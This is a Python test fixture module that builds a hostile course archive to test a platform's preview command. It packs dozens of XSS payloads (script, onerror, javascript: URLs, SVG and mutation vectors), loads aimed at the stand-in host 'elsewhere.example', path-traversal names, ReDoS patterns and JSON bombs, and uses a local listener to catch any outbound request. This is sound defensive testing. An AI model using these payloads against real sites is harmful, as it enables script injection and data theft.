# ruff: noqa: E501 - a trick is a line
"""Archives that mean harm, the real `ldn preview` that shows them, and a listener that hears whatever would leave the machine.

A hostile course has every trick in every place where an author's words end up on a page. If one of them worked, the page's
`window.PWNED` would be set, or the listener would be called.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tarfile
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import escape
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from pathlib import Path
from threading import Thread

from tests.platform.serving import ROOT

COURSE = "/evil-x1/en"
PWN = "window.PWNED=1"
HOST = "elsewhere.example"  # goes to the listener, as everything does that is not on this machine
OVERRIDE = "\u202e\u2066"
LONG = "n" * 10_000

# Words for every place that takes plain text.
WORDS = (
    f"\"'><script>{PWN}</script><img src=x onerror={PWN}><svg onload={PWN}></title></style></textarea>{{{{7*7}}}}{{% raw %}}"
    f"javascript:{PWN} &lt;script&gt; {OVERRIDE}"
)

# HTML for every place that takes HTML, one trick a line.
TRICKS = (
    f"<script>{PWN}</script><script src=https://{HOST}/a.js></script><scr<script>ipt>{PWN}</script>",
    f"<p onclick={PWN} onmouseover={PWN} onfocus={PWN} tabindex=1 autofocus>events</p><body onload={PWN}>",
    f"<img src=x onerror={PWN}><img/src=x/onerror={PWN}><video><source onerror={PWN}></video><details open ontoggle={PWN}>x</details>",
    f'<a href="javascript:{PWN}">one</a><a href="java&#9;script:{PWN}">two</a><a href="&#1;javascript:{PWN}">three</a>',
    f'<a href="data:text/html,<script>{PWN}</script>">four</a><a href="vbscript:x">five</a><a href="JaVaScRiPt&colon;{PWN}">six</a>',
    f"<svg><script>{PWN}</script><animate onbegin={PWN} attributeName=x dur=1s><a xlink:href='javascript:{PWN}'>y</a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
    f'<form action="https://{HOST}/form" method=post id=f><input name=attributes><button id=send>Send</button></form><button form=f formaction="https://{HOST}/">x</button>',
    f'<base href="https://{HOST}/"><meta http-equiv=refresh content="0;url=https://{HOST}/refresh"><link rel=stylesheet href="https://{HOST}/l.css">',
    f"<style>@import 'https://{HOST}/i.css'; .bar {{ display: none !important }} body {{ background: url(https://{HOST}/bg) }}</style>",
    f'<iframe src="https://{HOST}/f"></iframe><iframe srcdoc="<script>parent.{PWN}</script>"></iframe><object data="https://{HOST}/o"></object><embed src="https://{HOST}/e">',
    f'<img src="https://{HOST}/i.png"><img src="//{HOST}/j.png"><img srcset="https://{HOST}/k.png 1x"><img src="/\\{HOST}/l.png"><img src="https:/\\{HOST}/m.png">',
    f'<video src="https://{HOST}/v.mp4" poster="https://{HOST}/p.png" autoplay></video><audio src="https://{HOST}/a.mp3" autoplay></audio><track src="https://{HOST}/t.vtt">',
    f'<p style="background-image:url(https://{HOST}/s);background:url(//{HOST}/s2);background-color:url(https://{HOST}/s3);position:fixed;inset:0;z-index:9999">style</p>',
    '<div style="margin:-3000px 0 0 -500px;width:99999px;height:99999px;background-color:red;padding:5000px">cover</div>',
    '<div style="margin-top:-1000px;height:1200px;background-color:blue" class="skip bar">cover the bar</div>',
    '<div class="bar"><div class="menu"><ul style="width:9999px;height:9999px;background-color:green"><li>false menu</li></ul></div></div>',
    '<div class="skip ldn-floating ldn-card-box" id="content" style="height:9999px;width:9999px;background-color:red" tabindex=0>skip</div>',
    "<img width=-1 height=-99999999999999999999 src=/static/picture.png><img width=99999999 height=99999999 src=/static/picture.png>",
    f"<div id=news class=broken></div><a id=ldn-floating-card name=body></a><img name=body><form name=body></form><input name=cookie value={PWN}>",
    "<table><td background=https://elsewhere.example/t.png colspan=99999999 rowspan=99999999>x</table>",
    f'<img src="/-/be"><img src="{COURSE}/handler/x/y"><img src="../../../-/events"><a href="/-/events" id="inside">inside</a>',
    '<img alt="&#1;" src="/static/&#2;"><a href="/static/picture.png#&#1;">control</a>\x01\x0b\x7f',
    f"<!--><img src=x onerror={PWN}>--><!-- --!><img src=x onerror={PWN}>--><![CDATA[<img src=x onerror={PWN}>]]><?xml version='1.0' encoding='utf-16'?>",
    f"<template><img src=x onerror={PWN}></template><xmp><img src=x onerror={PWN}></xmp><plaintext>",
)
HTML = "\n".join(TRICKS)
NESTED = "<div><b><i>" * 10_000 + "deep" + HTML
KNOT = "<p>" + "".join(f"<b id={n}>" for n in range(4000)) + "</p>" + "<p>x</p>" * 4000

FILES: dict[str, str] = {
    "drawing.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}" width="10" height="10"><script>{PWN}</script>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{PWN}"><script>{PWN}</script></body></foreignObject></svg>',
    "prefix.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:a-b="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/2000/svg">'
    f"<a-b:script>{PWN}</a-b:script><é:script>{PWN}</é:script></svg>",
    "refresh.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:m="http://www.w3.org/1999/xhtml">'
    f'<m:meta http-equiv="refresh" content="0;url=https://{HOST}/svg"/><m:img alt="x"/></svg>',
    "fetch.svg": f'<?xml-stylesheet href="https://{HOST}/x.css"?><svg xmlns="http://www.w3.org/2000/svg" xml:base="https://{HOST}/">'
    f'<image href="https://{HOST}/i.png"/><style>@import "https://{HOST}/s.css"; rect {{ fill: url(https://{HOST}/f) }}</style><rect/></svg>',
    "page.html": f"<!doctype html><body onload={PWN}><script>{PWN}</script><img src=https://{HOST}/p.png><form action=https://{HOST}/></form>",
    "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{PWN}</script></html>',
    "page.xml": f'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{PWN}</h:script></x>',
    "page.html.gz": f"<script>{PWN}</script>",
    "words.srt": f"<html><script>{PWN}</script>",
    "words.txt": f"<html><script>{PWN}</script>",
    "words.sjson": f"<html><script>{PWN}</script>",
    "words.json": f"<html><script>{PWN}</script>",
    "words.bmp": f"<html><script>{PWN}</script>",
    "words.mid": f"<html><script>{PWN}</script>",
    "run.js": PWN,
    "sheet.css": ".bar { display: none }",
    "none": f"<html><script>{PWN}</script>",
    "a b&c#d?e%2f..svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PWN}</script></svg>',
    "subs.srt": f"1\n00:00:00,000 --> 00:00:09,000\n<i>hello</i> <script>{PWN}</script> --> <img src=x onerror={PWN}>{OVERRIDE}\n\n"
    + f"2\n00:00:01,000 --> 00:00:02,000 <b onclick={PWN}>\n{'<i ' * 5000}\n\n" * 200,  # three times what is read
    "picture.png": "\x89PNG",
    "film.mp4": f"<script>{PWN}</script>",
}


def attr(text: str) -> str:
    """Text as the value of an attribute of XML."""
    return escape(text).replace("\n", "&#10;").replace("\t", "&#9;")


def _problem(body: str, **settings: str) -> str:
    given = "".join(f' {name}="{attr(value)}"' for name, value in settings.items())
    return f'<problem display_name="{attr(WORDS)}"{given}>{body}</problem>'


_WELL = escape(HTML, quote=False).replace("\x01", "").replace("\x0b", "").replace("\x7f", "")  # read twice by the platform
QUESTION = _problem(
    f'<img src="https://{HOST}/in-problem.png"/><a href="javascript:{PWN}">x</a><script type="text/javascript">{PWN}</script>'
    f'<multiplechoiceresponse><label>{_WELL}</label><description>{_WELL}</description><choicegroup><choice correct="true" name="{attr(WORDS)}">'
    f'{_WELL}<choicehint label="{attr(WORDS)}">{_WELL}</choicehint></choice><choice correct="false">no</choice></choicegroup>'
    f"<solution>{_WELL}</solution></multiplechoiceresponse>"
    f'<optionresponse><optioninput><option correct="true">{escape(WORDS)}</option><option correct="false">no</option></optioninput></optionresponse>'
    f"<customresponse><textline/></customresponse><demandhint><hint>{_WELL}</hint></demandhint>",
    max_attempts="9" * 5000,
    weight="1e999",
)
SHORT = _problem(
    f'<stringresponse answer="{attr(WORDS)}" type="ci"><label>Short</label><correcthint>{_WELL}</correcthint>'
    f'<stringequalhint answer="{attr(WORDS)}x">{_WELL}</stringequalhint><textline size="999" trailing_text="{attr(WORDS)}"/></stringresponse>'
)
PATTERN = _problem('<stringresponse answer="^(a|a)*$" type="regexp"><label>Pattern</label><textline/></stringresponse>')
POINTS = _problem(
    f'<numericalresponse answer="1"><label>Number</label><formulaequationinput points="{"9" * 5000}"/></numericalresponse>'
    f'<numericalresponse answer="{"9^" * 3000}9"><label>Power</label><textline points="{"9" * 400}"/></numericalresponse>'
    '<numericalresponse answer="[-1e999,1e999]"><label>Range</label><textline/></numericalresponse>',
    weight="999999",
)
SURVEY = (
    f"""<survey url_name="survey" block_name="{attr(WORDS)}" questions='[["q", {{"label": "{
        attr(
            HTML.replace(chr(34), "'")
            .replace(chr(10), " ")
            .replace(chr(92), "/")
            .replace(chr(1), "")
            .replace(chr(11), "")
            .replace(chr(127), "")
        )
    }", "img": "//{HOST}/q.png", "img_alt": "x"}}]]' """
    f"""answers='[["a", "&lt;img src=x onerror={PWN}&gt;"], ["b", "\\ud800"]]' feedback="{attr(WORDS)}"/>"""
)
DEEP_JSON = "[" * 100_000 + "]" * 100_000
DRAG = (
    '<drag-and-drop-v2 url_name="drag" display_name="Drag" data="'
    + attr(
        json.dumps(
            {
                "question_text": WORDS + HTML.replace("\x0b", ""),
                "zones": [{"title": WORDS}],
                "items": [{"displayName": "\ud800" + WORDS}],
            }
        )
    )
    + '"/>'
)
OTHERS = (
    f'<poll url_name="poll" question="{attr(WORDS)}" answers="{attr(DEEP_JSON[:20_000])}"/>'
    f'<drag-and-drop-v2 url_name="drag-bomb" data="{attr(DEEP_JSON)}"/>'
    + DRAG
    + SURVEY
    + f'<video url_name="film" display_name="{attr(WORDS)}" youtube_id_1_0="{attr(WORDS)}" sub="x" '
    f'html5_sources="{attr(json.dumps([f"javascript:{PWN}", f"https://{HOST}/v.mp4", "/static/film.mp4", "https://[", "data:text/html,x"]))}" '
    f'transcripts="{attr(json.dumps({WORDS: "subs.srt", "en": "subs.srt", "bn": "../../course.xml"}))}"/>'
    f'<lti_consumer url_name="lti" launch_url="javascript:{PWN}" display_name="{attr(WORDS)}"/>'
    f'<discussion url_name="talk" discussion_category="{attr(WORDS)}" discussion_target="{attr(WORDS)}"/>'
    f'<never-heard-of url_name="own" display_name="{attr(WORDS)}" onclick="{PWN}">{_WELL}<script>{PWN}</script></never-heard-of>'
    f'<word_cloud url_name="cloud" instructions="{attr(WORDS)}"/>'
)
JOURNAL = {
    "version": 1,
    "mode": "entry",
    "tags": ["trust"],
    "source": "en",
    "locales": {"en": {"dir": "ltr", "title": WORDS, "prompt": WORDS + HTML, "skills": [{"id": "trust", "name": WORDS}]}},
}
OURS = (
    f'<ldn_reflection_journal url_name="journal" display_name="{attr(WORDS)}">{escape(json.dumps(JOURNAL))}</ldn_reflection_journal>'
    f'<ldn_reflection_journal url_name="journal-bomb" display_name="{attr(WORDS)}">{DEEP_JSON}</ldn_reflection_journal>'
    f'<ldn_skills_assessment url_name="assess-words" display_name="{attr(WORDS)}" weight="1e999">{escape(json.dumps({"title": WORDS}))}</ldn_skills_assessment>'
    f'<ldn_skills_assessment url_name="assess-nan" weight="NaN">{escape(WORDS)}</ldn_skills_assessment>'
)
NAMES = (
    "..",
    ".",
    "a/b",
    "../../../-/be",
    'q"uote',
    "<b>",
    "Case",
    "case",
    "%2e%2e",
    "a\\b",
    "new\nline",
    f"{OVERRIDE}rtl",
    LONG,
    "é" * 2000,
    "?x#y",
    "con",
    "javascript:x",
)

POLICY = {
    "course/2026": {
        "display_name": WORDS + "\ud800\x00\x1b[31m",
        "language": "en",
        "course_image": f"https://{HOST}/c.png",
        "start": "0000-99-99\x00",
        "tabs": [
            {"type": "static_tab", "name": WORDS, "url_slug": "evil"},
            {"type": "static_tab", "name": LONG, "url_slug": "long"},
            {"type": "static_tab", "name": {"a": [WORDS]}, "url_slug": ["evil"]},
            {"type": WORDS, "name": None},
        ],
        "advanced_modules": [WORDS, {"a": 1}, None, LONG],
        "discussion_topics": {WORDS: {"id": WORDS}},
        "learning_info": [WORDS, 7],
        "other_course_settings": {"topic": WORDS},
        "course_font_family": WORDS,
        "enrollment_start": 1e308,
        WORDS: WORDS,
    }
}
GRADING = {
    "GRADER": [
        {"type": "Hard" + WORDS, "min_count": 10**9, "drop_count": 10**9, "weight": 1e308},
        {"type": WORDS, "min_count": -5, "drop_count": -5, "weight": 1e308, "short_label": WORDS},
        {"type": "NaN", "weight": float("nan"), "min_count": 1e300, "drop_count": 10**400},
    ],
    "GRADE_CUTOFFS": {WORDS: 1e308, "A": 10**400, "B": -1, "C": "x"},
}


def hostile() -> dict[str, str]:
    """The files of a course with every trick in every place."""
    units = {
        "texts": '<html url_name="text" filename="text"/><html url_name="nested" filename="nested"/>',
        "knots": '<html url_name="knot" filename="knot"/><html url_name="inline"><p>inline</p></html>',
        "questions": '<problem url_name="question"/><problem url_name="short"/><problem url_name="pattern"/><problem url_name="points"/>',
        "others": OTHERS,
        "ours": OURS,
        "same": '<problem url_name="same"/><html url_name="same" filename="text"/>',
        "cycle": '<vertical url_name="cycle"/><sequential url_name="lesson"/><html url_name="after" filename="text"/>',
    }
    named = "".join(
        f'<vertical url_name="{attr(name)}" display_name="{attr(name[:200])}"><html url_name="{attr(name)}">hello</html>'
        f'<problem url_name="{attr(name)}">{SHORT.partition(">")[2].removesuffix("</problem>")}</problem></vertical>'
        for name in NAMES
    )
    return {
        "course/course.xml": '<course url_name="2026" org="EVIL" course="X1"/>',
        "course/course/2026.xml": f'<course display_name="{attr(WORDS)}"><chapter url_name="module"/><chapter url_name="module"/></course>',
        "course/chapter/module.xml": f'<chapter display_name="{attr(WORDS)}"><sequential url_name="lesson"/><sequential url_name="names"/></chapter>',
        "course/sequential/lesson.xml": f'<sequential display_name="{attr(WORDS)}" graded="true" format="{attr(WORDS)}">'
        + "".join(f'<vertical url_name="{name}"/>' for name in units)
        + "</sequential>",
        "course/sequential/names.xml": f'<sequential display_name="Names">{named}</sequential>',
        **{
            f"course/vertical/{name}.xml": f'<vertical display_name="{attr(WORDS)}">{body}</vertical>'
            for name, body in units.items()
        },
        "course/html/text.html": HTML,
        "course/html/nested.html": NESTED,
        "course/html/knot.html": KNOT,
        **{f"course/problem/{name}.xml": body for name, body in _questions().items()},
        **{f"course/static/{name}": content for name, content in FILES.items()},
        **{f"course/about/{name}.html": HTML for name in ("overview", "short_description", "effort")},
        "course/tabs/evil.html": HTML,
        "course/tabs/long.html": "long",
        "course/policies/2026/policy.json": json.dumps(POLICY),
        "course/policies/2026/grading_policy.json": json.dumps(GRADING),
        "course/policies/assets.json": DEEP_JSON,
    }


def _questions() -> dict[str, str]:
    return {"question": QUESTION, "short": SHORT, "pattern": PATTERN, "points": POINTS, "same": SHORT}


def plain(units: int = 1, more: Mapping[str, str] | None = None) -> dict[str, str]:
    """The files of a course that means no harm."""
    names = [f"u{number}" for number in range(units)]
    return {
        "course/course.xml": '<course url_name="2026" org="EVIL" course="X1"/>',
        "course/course/2026.xml": '<course display_name="Plain" language="en"><chapter url_name="module"/></course>',
        "course/chapter/module.xml": '<chapter display_name="Module"><sequential url_name="lesson"/></chapter>',
        "course/sequential/lesson.xml": '<sequential display_name="Lesson">'
        + "".join(f'<vertical url_name="{name}"/>' for name in names)
        + "</sequential>",
        **{
            f"course/vertical/{name}.xml": f'<vertical display_name="Unit {name}"><html url_name="t{name}" filename="t"/>'
            f'<problem url_name="q{name}"><stringresponse answer="yes"><label>Q</label><textline/></stringresponse></problem></vertical>'
            for name in names
        },
        "course/html/t.html": '<p>Plain <b>words</b>.</p><p><img src="/static/map.svg" alt=""></p>',
        "course/static/map.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
        **(more or {}),
    }


def pack(path: Path, files: Mapping[str, str | bytes]) -> Path:
    """A .tar.gz with these files, whatever they are."""
    with tarfile.open(path, "w:gz", compresslevel=1) as archive:
        for name, content in files.items():
            data = content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, BytesIO(data))
    return path


@dataclass(frozen=True, slots=True)
class Answer:
    """What a request was answered."""

    status: int
    headers: Mapping[str, str]
    body: bytes


@dataclass(frozen=True, slots=True)
class Preview:
    """A running `ldn preview`."""

    port: int
    pid: int
    errors: Path

    @property
    def base(self) -> str:
        """Its address."""
        return f"http://127.0.0.1:{self.port}"

    def ask(self, path: str, method: str = "GET", body: bytes | None = None, **headers: str) -> Answer:
        """The answer to a request as it is written here: no path is tidied up, no header added but Host."""
        connection = HTTPConnection("127.0.0.1", self.port, timeout=60)
        connection.putrequest(method, path, skip_host="Host" in headers, skip_accept_encoding=True)
        given = {} if body is None or "Content_Length" in headers else {"Content-Length": str(len(body))}
        for name, value in (given | headers).items():
            connection.putheader(name.replace("_", "-"), value)
        connection.endheaders(body)
        answer = connection.getresponse()
        found = Answer(answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read())
        connection.close()
        return found

    def post(self, path: str, body: bytes = b"", **headers: str) -> Answer:
        """A POST as a page of this preview would send it."""
        kind = {"Content_Type": "application/x-www-form-urlencoded"}
        return self.ask(path, "POST", body, **({"Origin": self.base} | kind | headers))

    @property
    def peak(self) -> float:
        """The most memory that it has had at a time, in megabytes."""
        found = re.search(r"VmHWM:\s+(\d+)", Path(f"/proc/{self.pid}/status").read_text())
        assert found
        return int(found[1]) / 1024


@contextmanager
def previewed(folder: Path, *archives: Path) -> Iterator[Preview]:
    """The real command on a free port, with what it says on stderr kept."""
    errors = folder / "stderr"
    with (
        errors.open("wb") as out,
        subprocess.Popen(_command(*archives), stdout=subprocess.PIPE, stderr=out, env=_environment()) as process,
    ):
        assert process.stdout is not None
        try:
            address = process.stdout.readline().decode().strip()
            assert address, errors.read_text()
            yield Preview(int(address.rstrip("/").rpartition(":")[2]), process.pid, errors)
        finally:
            process.terminate()
            process.wait(timeout=20)


@dataclass(frozen=True, slots=True)
class Ended:
    """How a command ended, and what it took."""

    status: int
    said: str
    seconds: float
    megabytes: float


def run(folder: Path, archive: Path, *options: str) -> Ended:
    """The real command until it ends by itself."""
    said = folder / "said"
    start = time.monotonic()
    with said.open("wb") as out:
        command = [sys.executable, "-S", "-c", _MEASURE, *_command(archive, *options)]
        measured = subprocess.run(command, stdout=subprocess.PIPE, stderr=out, env=_environment(), check=True)
    status, kilobytes = map(int, measured.stdout.split())
    return Ended(status, said.read_text("utf-8", "replace"), time.monotonic() - start, kilobytes / 1024)


# In a small process between: a command begins with the memory of the one that starts it, which is this test's otherwise.
_MEASURE = """
import os, subprocess, sys
process = subprocess.Popen(sys.argv[1:], stdout=sys.stderr)
_, status, usage = os.wait4(process.pid, 0)
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
"""


def _command(*words: Path | str) -> list[str]:
    return [sys.executable, "-m", "builder", "preview", *map(str, words), "--port", "0"]


def _environment() -> dict[str, str]:
    path = os.pathsep.join([str(ROOT), str(ROOT / "xblocks"), os.environ.get("PYTHONPATH", "")])
    return {**os.environ, "PYTHONPATH": path.rstrip(os.pathsep), "PYTHONUNBUFFERED": "1"}


@dataclass(frozen=True, slots=True)
class Listener:
    """Stands for the whole net: as a proxy it hears of every request that is not for this machine."""

    address: str
    heard: list[str] = field(default_factory=list)


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            line = self.rfile.readline(1000).decode("latin-1").strip()
            if line:
                heard.append(line)
            self.close_connection = True

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield Listener(f"http://127.0.0.1:{server.server_port}", heard)
        server.shutdown()
